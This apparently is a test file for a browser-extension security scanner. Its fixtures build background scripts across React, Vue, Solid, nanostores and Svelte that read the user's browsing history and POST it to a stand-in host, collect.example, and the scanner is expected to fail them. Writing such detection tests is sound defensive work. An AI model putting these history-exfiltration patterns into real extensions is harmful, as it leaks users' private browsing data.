import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* Values that change, as frameworks make them; their own code is not in the package, as in a repository. */

const TAKEN = "chrome.history.search({ text: '' })";
const send = (data: string): string =>
  `fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(${data}) })`;

it.each<[string, (data: string) => string]>([
  [
    'a setter handed to a promise (React)',
    (data) =>
      `import { useState, useEffect } from 'react'; function App() { const [rows, setRows] = useState([]); useEffect(() => { ${data}.then(setRows); }, []); useEffect(() => { ${send('rows')}; }, [rows]); return null; } App();`,
  ],
  [
    'a setter handed to the platform, of a library without a name',
    (data) =>
      `import { a, b } from './library.js'; function App() { const [rows, setRows] = a([]); b(() => { ${data}.then((l) => take(setRows, l)); }, []); b(() => { ${send('rows')}; }, [rows]); return null; } function take(set, list) { set(list); } App();`,
  ],
  [
    'contexts (React)',
    (data) =>
      `import { createContext, useContext, useEffect, useState } from 'react'; const Shared = createContext(null); function Sync() { const { rows } = useContext(Shared); useEffect(() => { ${send('rows')}; }, [rows]); return null; } function App() { const [rows, setRows] = useState([]); useEffect(() => { ${data}.then(setRows); }, []); return <Shared.Provider value={{ rows }}><Sync /></Shared.Provider>; } App();`,
  ],
  [
    'what is worked out of a state, and handed to a component (React)',
    (data) =>
      `import { useState, useEffect, useMemo, useCallback } from 'react'; function Rows({ body }) { const tell = useCallback(() => ${send('body')}, [body]); useEffect(() => { tell(); }, [tell]); return null; } function App() { const [rows, setRows] = useState([]); useEffect(() => { ${data}.then((l) => setRows(l)); }, []); const body = useMemo(() => rows.map((one) => one.url), [rows]); return <Rows body={body} />; } App();`,
  ],
  [
    'watched references (Vue)',
    (data) =>
      `import { ref, watch } from 'vue'; const all = ref([]); ${data}.then((l) => { all.value = l; }); watch(all, (now) => { ${send('now')}; });`,
  ],
  [
    'what is worked out of an object (Vue)',
    (data) =>
      `import { reactive, computed, watchEffect } from 'vue'; const state = reactive({ all: [] }); const body = computed(() => state.all); ${data}.then((l) => { state.all = l; }); watchEffect(() => { ${send('body.value')}; });`,
  ],
  [
    'options that share this (Vue)',
    (data) =>
      `import Vue from 'vue'; new Vue({ data() { return { all: [] }; }, async mounted() { this.all = await ${data}; this.tell(); }, methods: { tell() { ${send('this.all')}; } } });`,
  ],
  [
    'signals (Solid)',
    (data) =>
      `import { createSignal, createEffect, createMemo } from 'solid-js'; const [all, setAll] = createSignal([]); const body = createMemo(() => all()); ${data}.then((l) => setAll(l)); createEffect(() => { ${send('body()')}; });`,
  ],
  [
    'stores that are listened to (nanostores)',
    (data) =>
      `import { atom } from 'nanostores'; const all = atom([]); ${data}.then((l) => all.set(l)); all.listen((rows) => { ${send('rows')}; });`,
  ],
  [
    'stores that are asked (Svelte)',
    (data) =>
      `import { writable, get } from 'svelte/store'; const all = writable([]); ${data}.then((l) => all.set(l)); setInterval(() => { ${send('get(all)')}; }, 9000);`,
  ],
])('%s', async (_, background) => {
  const manifest = { permissions: ['history'], background: { service_worker: 'background.jsx', type: 'module' } };
  const scanned = (data: string): Promise<string> =>
    graded({ files: { 'background.jsx': background(data) }, manifest });
  expect(await scanned(TAKEN)).toBe('F');
  expect(await scanned('Promise.resolve([1])')).toMatch(/^A/);
});

it('what only says when something is worked out anew is no part of it (React)', async () => {
  const app = (body: string): string =>
    `import { useState, useEffect, useMemo } from 'react'; function App() { const [rows, setRows] = useState([]); useEffect(() => { ${TAKEN}.then(setRows); }, []); const body = useMemo(() => ${body}, [rows]); useEffect(() => { ${send('body')}; }, [body]); return null; } App();`;
  const manifest = { permissions: ['history'], background: { service_worker: 'background.jsx', type: 'module' } };
  expect(await graded({ files: { 'background.jsx': app('rows.map((one) => one.url)') }, manifest })).toBe('F');
  expect(await graded({ files: { 'background.jsx': app('Date.now()') }, manifest })).toMatch(/^A/);
});
